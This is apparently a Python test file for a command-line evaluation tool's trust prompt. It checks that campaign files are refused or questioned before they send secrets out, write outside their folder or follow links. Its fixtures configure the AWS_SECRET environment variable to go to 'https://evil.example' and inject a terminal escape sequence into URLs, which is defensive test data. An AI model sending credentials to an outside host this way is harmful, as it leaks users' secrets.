"""Who is asked before a foreign campaign does more than work in its folder, and what is remembered of it."""

import json
from contextlib import closing

import campaign_processes as processes
import pytest
from campaigns import one_message, winnow
from test_command_line import edit

from winnow.flows.run import trust_prompt
from winnow.flows.run.trust_prompt import (
    StoredPermissions,
    Trust,
    approving,
    require_stored_trust,
    trust_file,
)
from winnow.storage.admin.schema import ensure_schema
from winnow.storage.engine.database import open_database
from winnow.tasks.campaign.campaign import opened_campaign
from winnow.tasks.errors import SpecError
from winnow.tasks.setup.load import check_campaign_file
from winnow.tasks.setup.open_campaign import open_campaign
from winnow.tasks.setup.trust import Permission
from winnow.tasks.text.printable import printable

URL = "https://evil.example/v1"
SENT = "send the environment variable AWS_SECRET to 'https://evil.example'"


@pytest.fixture
def folder(tmp_path, monkeypatch):
    """A campaign whose second model is another's server, asked under a key of ours."""
    folder = tmp_path / "work"
    folder.mkdir()
    monkeypatch.chdir(folder)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "configuration"))
    monkeypatch.setenv("AWS_SECRET", "sk-secret")
    monkeypatch.setenv("OTHER", "sk-other")
    processes.write_campaign(folder)
    served = f"provider: openai, model: q, model_base_url: '{URL}', api_key: $AWS_SECRET}}"
    local = f"provider: transformers, model: {folder}/model-2, model_args: {{max_model_len: 64}}}}"
    edit(folder, local, served)
    return folder


@pytest.fixture
def at_a_terminal(monkeypatch):
    """Let the next questions be answered as told; the questions that were asked."""
    asked = []

    def answer(*given):
        answers = iter(given)
        monkeypatch.setattr(trust_prompt.sys, "stdin", Terminal())
        monkeypatch.setattr(trust_prompt.sys, "stderr", Terminal())
        monkeypatch.setattr(
            trust_prompt.typer, "confirm", lambda text, **_: asked.append(text) or next(answers)
        )
        return asked

    return answer


class Terminal:
    def isatty(self):
        return True


def check(trust=None, settings=()):
    return check_campaign_file("campaign.yaml", settings, approving(trust or Trust(asks=True)))


@pytest.mark.parametrize("command", ["run", "schedule"])
def test_without_a_terminal_it_is_refused_in_one_sentence_that_names_the_remedy(folder, command):
    when = ["--interval", "60"] if command == "schedule" else []
    result = winnow(folder, command, "campaign.yaml", *when)
    assert result.returncode == 2
    message = one_message(result)
    assert message.startswith(f"campaign.yaml: it would {SENT} (models[1].api_key), which is not permitted")
    assert "--trust" in message
    assert "\n" not in message
    assert "sk-secret" not in message
    assert not (folder / "winnow.db").exists()
    assert not trust_file().exists()


def test_validate_does_none_of_it_and_lists_it(folder):
    result = winnow(folder, "validate", "campaign.yaml")
    assert result.returncode == 0
    assert result.stdout.splitlines()[1] == f"to be allowed: it would {SENT} (models[1].api_key)"
    for arguments in (["--trust"], []):
        result = winnow(folder, "validate", "campaign.yaml", *arguments)
        assert result.stdout.splitlines()[1] == f"allowed: it would {SENT} (models[1].api_key)"


def test_trust_is_remembered_for_what_was_allowed_and_for_nothing_else(folder):
    check(Trust(everything=True))
    check()
    edit(folder, "api_key: $AWS_SECRET", "api_key: $OTHER")
    with pytest.raises(SpecError, match=r"OTHER to 'https://evil\.example'"):
        check()
    edit(folder, "api_key: $OTHER", "api_key: $AWS_SECRET")
    edit(folder, URL, "https://worse.example/v1")
    with pytest.raises(SpecError, match=r"AWS_SECRET to 'https://worse\.example'"):
        check()


def test_all_that_is_missing_is_named_at_once(folder):
    edit(folder, f"log_folder: {folder}/logs", "log_folder: /etc/logs")
    with pytest.raises(SpecError) as caught:
        check()
    assert SENT in str(caught.value)
    assert "write logs into '/etc/logs' (execution.log_folder)" in str(caught.value)


def test_a_terminal_is_asked_once(folder, at_a_terminal):
    asked = at_a_terminal(False, True)
    with pytest.raises(SpecError, match="is not permitted"):
        check()
    check()
    check()
    assert len(asked) == 2
    assert f"\n  - {SENT} (models[1].api_key)\n" in asked[0]


def test_a_scheduled_run_asks_nobody_and_goes_by_no_key_that_was_set_for_it(folder, at_a_terminal):
    asked = at_a_terminal()
    sets = ["models[1].api_key=$AWS_SECRET", f"models[1].model_base_url={URL}"]
    approve = approving(Trust(how="run this"), own=lambda key: False)
    with pytest.raises(SpecError, match="is not permitted here; run this if you know"):
        check_campaign_file("campaign.yaml", sets, approve)
    assert asked == []


def test_what_the_command_itself_asks_for_is_allowed_with_it(folder, tmp_path):
    edit(folder, f"model_base_url: '{URL}', api_key: $AWS_SECRET", "model_base_url: 'http://127.0.0.1:9/v1'")
    elsewhere = f"{tmp_path}/elsewhere"
    check(Trust(), [f"execution.log_folder={elsewhere}", f"storage=sqlite:///{elsewhere}/w.db"])
    assert json.loads(trust_file().read_text()) == {"trusted": [f"write logs into '{elsewhere}'"]}
    edit(folder, f"log_folder: {folder}/logs", f"log_folder: {elsewhere}")
    check(Trust())  # as was allowed before
    edit(folder, f"sqlite:///{folder}/", f"sqlite:///{elsewhere}/")
    with pytest.raises(SpecError, match="keep results in"):
        check(Trust())


def test_a_file_that_is_sent_is_the_users_own_where_the_command_names_it(folder, tmp_path):
    edit(folder, f"model_base_url: '{URL}', api_key: $AWS_SECRET", "model_base_url: 'http://127.0.0.1:9/v1'")
    check(Trust())
    before = check(Trust()).spec.dataset.path
    (tmp_path / "elsewhere.jsonl").write_bytes((folder / before).read_bytes())
    (folder / "link.jsonl").symlink_to(tmp_path / "elsewhere.jsonl")
    setting = "dataset.path=link.jsonl"
    with pytest.raises(
        SpecError, match=r"elsewhere\.jsonl' and send it to .* \(dataset\.path\), which is not"
    ):
        check_campaign_file("campaign.yaml", [setting], approving(Trust(), own=lambda key: False))
    check(Trust(), [setting])
    check_campaign_file("campaign.yaml", [setting], approving(Trust(), own=lambda key: False))


def test_one_of_two_keys_given_to_the_command_is_not_both(folder):
    with pytest.raises(SpecError, match=r"OTHER to 'https://evil\.example'"):
        check(Trust(), ["models[1].api_key=$OTHER"])
    check(Trust(), ["models[1].api_key=$OTHER", f"models[1].model_base_url={URL}"])


def test_a_stored_campaign_needs_the_same_whoever_stored_it(folder, plain_runs):
    checked = check_campaign_file("campaign.yaml")
    storage, name = checked.spec.storage, checked.spec.name
    with closing(open_database(storage)) as database:  # its servers are nowhere
        ensure_schema(database)
        open_campaign(database, checked)
    result = winnow(folder, "resume", name, "--storage", storage)
    assert result.returncode == 2
    assert one_message(result).startswith(f"campaign '{name}': it would {SENT}")
    result = winnow(folder, "resume", "--all", "--storage", storage)
    assert result.returncode == 2
    assert result.stdout.startswith(f"{name}: failed: campaign '{name}': it would {SENT}")
    with opened_campaign(storage, name) as campaign:
        require_stored_trust(campaign, Trust(everything=True))
        require_stored_trust(campaign, Trust())


def test_code_that_is_gone_is_not_what_was_allowed():
    """What then runs is read from elsewhere, such as from a link to the standard input."""
    with_code, without = (Permission(text="run it", keys=("k",), digests=each) for each in ({"a": "1"}, None))
    known = StoredPermissions().with_these([with_code])
    assert known.allows(with_code)
    assert not known.allows(without)
    assert known.describe(without) == "run it (k; changed since it was allowed: 'a')"
    assert known.with_these([without]).allows(without)
    assert not known.with_these([without]).allows(with_code)


def test_the_file_of_what_was_allowed_is_its_owners_alone(folder):
    check(Trust(everything=True))
    assert trust_file().stat().st_mode & 0o777 == 0o600
    assert [path.name for path in trust_file().parent.iterdir()] == ["trust.json"]
    assert not trust_file().is_relative_to(folder)


@pytest.mark.parametrize("content", ["", "{", "[]", '{"trusted": 1}', '{"trusted": [1]}', "\xff"])
def test_a_broken_one_allows_nothing(folder, content):
    trust_file().parent.mkdir(parents=True)
    trust_file().write_text(content, "latin-1")
    with pytest.raises(SpecError, match=r"trust\.json .*delete it to be asked again"):
        check(Trust(everything=True))


def test_where_it_cannot_be_written_the_run_goes_on_and_says_so(folder, tmp_path, capsys):
    (tmp_path / "configuration").write_text("a file where a folder should be")
    check(Trust(everything=True))
    assert "cannot be stored, so you will be asked again" in capsys.readouterr().err
    with pytest.raises(SpecError, match="is not permitted"):
        check()


@pytest.mark.parametrize("command", ["validate", "plan"])
def test_what_is_said_of_a_strangers_file_moves_no_cursor(tmp_path, command, monkeypatch):
    monkeypatch.setattr("winnow.tasks.answer.status_lines.one_line", str)
    (tmp_path / "data.jsonl").write_text('{"input": "1", "target": "1", "s": {"a": 1, "b": 0}}\n' * 2)
    urls = [f"http://127.0.0.1:9/{name}\x1b[2J" for name in "ab"]
    models = [{"name": url[-5], "provider": "http", "url": url} for url in urls]
    file = {"name": "c", "models": models, "dataset": {"path": "data.jsonl"}}
    (tmp_path / "c.yaml").write_text(json.dumps({**file, "judge": {"type": "recorded", "scores": "s"}}))
    told = winnow(tmp_path, command, "c.yaml")
    assert told.returncode == 0
    assert "http://127.0.0.1:9/a" in told.stdout
    assert printable(told.stdout) == told.stdout
